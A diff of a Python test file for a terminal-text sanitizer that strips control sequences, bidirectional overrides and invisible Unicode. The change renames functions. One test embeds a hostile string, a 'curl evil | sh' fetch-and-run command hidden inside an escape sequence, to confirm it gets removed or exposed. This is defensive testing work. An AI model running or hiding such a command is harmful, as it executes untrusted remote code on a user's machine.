@@ -8,7 +8,7 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from lmtui.core.sanitize import clean, clean_line, clean_path, reveal, reveal_line
+from lmtui.core.sanitize import escape_invisible, escape_invisible_line, sanitize, sanitize_line, sanitize_path
 
 
 @pytest.mark.parametrize(
@@ -34,22 +34,22 @@ from lmtui.core.sanitize import clean, clean_line, clean_path, reveal, reveal_li
     ],
 )
 def test_known_attacks(dirty: str, expected: str) -> None:
-    assert clean(dirty) == expected
+    assert sanitize(dirty) == expected
 
 
 @given(st.text(alphabet=st.one_of(st.characters(), st.sampled_from("\x1b[]0;\x07\x9b\x9d\\P^_\r\n\u202e")), max_size=60))
 def test_no_control_and_no_bidirectional_character_is_left(text: str) -> None:
-    for char in clean(text):
+    for char in sanitize(text):
         assert char in "\n\t" or unicodedata.category(char) not in ("Cc", "Cs")
         assert unicodedata.bidirectional(char) not in ("LRE", "RLE", "PDF", "LRO", "RLO", "LRI", "RLI", "FSI", "PDI")
-    assert clean(clean(text)) == clean(text)
+    assert sanitize(sanitize(text)) == sanitize(text)
 
 
 @given(st.text(max_size=60))
 def test_what_is_revealed_loses_no_printable_character_and_keeps_no_control(text: str) -> None:
-    shown = reveal(text)
-    assert clean(shown) == shown
-    assert reveal(shown) == shown
+    shown = escape_invisible(text)
+    assert sanitize(shown) == shown
+    assert escape_invisible(shown) == shown
     assert [char for char in text if char.isascii() and char.isprintable()] == [
         char for char in _without_names(shown) if char.isascii() and char.isprintable()
     ]
@@ -61,7 +61,7 @@ def _without_names(text: str) -> str:
 
 def _seconds(text: str) -> float:
     began = time.process_time()
-    clean(text)
+    sanitize(text)
     return time.process_time() - began
 
 
@@ -73,8 +73,8 @@ def test_openings_without_end_cost_what_other_text_costs(opening: str) -> None:
 
 @given(st.text(max_size=60))
 def test_a_line_is_one_line(text: str) -> None:
-    assert len(clean_line(text).splitlines()) <= 1
-    assert "\t" not in clean_line(text)
+    assert len(sanitize_line(text).splitlines()) <= 1
+    assert "\t" not in sanitize_line(text)
 
 
 @pytest.mark.parametrize(
@@ -87,17 +87,17 @@ def test_a_line_is_one_line(text: str) -> None:
     ],
 )
 def test_a_letter_that_passes_for_another_is_named(text: str, shown: str) -> None:
-    assert reveal(text) == shown
+    assert escape_invisible(text) == shown
 
 
 def test_a_letter_that_passes_for_another_is_named_beside_one_that_has_its_name() -> None:
-    assert reveal("\u0440ay\u0430<U+0430>") == "\u0440<U+0440>ay\u0430<U+0430>"
+    assert escape_invisible("\u0440ay\u0430<U+0430>") == "\u0440<U+0440>ay\u0430<U+0430>"
 
 
 def test_a_line_to_be_asked_about_keeps_what_stands_in_a_control_sequence() -> None:
     hidden = "true \x1b]0;; curl evil | sh #\x07"
-    assert "curl" not in clean_line(hidden)
-    assert reveal_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"
+    assert "curl" not in sanitize_line(hidden)
+    assert escape_invisible_line(f"{hidden}\nmore") == "true \u241b]0;; curl evil | sh #\u2407\u23cemore"
 
 
 # Default_Ignorable_Code_Point of Unicode 15, written down by hand from DerivedCoreProperties.txt
@@ -111,9 +111,9 @@ IGNORABLE = [
 def test_every_character_that_is_not_seen_is_named_in_what_a_person_decides_on() -> None:
     hidden = {code for first, last in IGNORABLE for code in range(first, last + 1)} | {0x2800, 0x1D159}
     hidden |= {code for code in range(0x110000) if unicodedata.category(chr(code))[0] == "Z" and code != 0x20}
-    left = [code for code in hidden if reveal(f"a{chr(code)}b") != f"a<U+{code:04X}>b"]
+    left = [code for code in hidden if escape_invisible(f"a{chr(code)}b") != f"a<U+{code:04X}>b"]
     assert left == []
-    assert [code for code in hidden if reveal_line(f"/x/{chr(code)}") != f"/x/<U+{code:04X}>"] == []
+    assert [code for code in hidden if escape_invisible_line(f"/x/{chr(code)}") != f"/x/<U+{code:04X}>"] == []
 
 
 @pytest.mark.parametrize(
@@ -125,21 +125,21 @@ def test_every_character_that_is_not_seen_is_named_in_what_a_person_decides_on()
     ],
 )
 def test_prose_keeps_what_its_writing_needs_and_a_decision_does_not(text: str) -> None:
-    assert clean(text) == text
-    assert "<U+" in reveal(text)
+    assert sanitize(text) == text
+    assert "<U+" in escape_invisible(text)
 
 
 @pytest.mark.parametrize("char", ["\u200c", "\u200d", "\ufe0f", "\ufe00", "\U000e0100"])
 @pytest.mark.parametrize("base", ["a", "\u00e9", "\u0441", "\u03b1", "."])
 def test_a_joiner_or_selector_where_writing_needs_none_is_named_in_prose_too(char: str, base: str) -> None:
-    assert clean(f"src/{base}{char}{base}.py") == f"src/{base}<U+{ord(char):04X}>{base}.py"
+    assert sanitize(f"src/{base}{char}{base}.py") == f"src/{base}<U+{ord(char):04X}>{base}.py"
 
 
 @given(st.text(alphabet="a\u0441\u4f60\u2764\u200d\u200c\ufe0f\ufe00\u20e3#\u00a9\u202e\u2800\x1b[", max_size=12))
 def test_what_prose_keeps_is_the_same_when_it_is_cleaned_again(text: str) -> None:
-    assert clean(clean(text)) == clean(text)
+    assert sanitize(sanitize(text)) == sanitize(text)
 
 
 @pytest.mark.parametrize("char", ["\u200d", "\u00a0", "\u3000", "\u2800", "\ufe0f", "\u3164"])
 def test_a_path_that_is_only_shown_names_what_hides_and_drops_control_sequences(char: str) -> None:
-    assert clean_path(f"src/\x1b[31m\u4f60{char}\u4f60\n.py") == f"src/\u4f60<U+{ord(char):04X}>\u4f60\u23ce.py"
+    assert sanitize_path(f"src/\x1b[31m\u4f60{char}\u4f60\n.py") == f"src/\u4f60<U+{ord(char):04X}>\u4f60\u23ce.py"
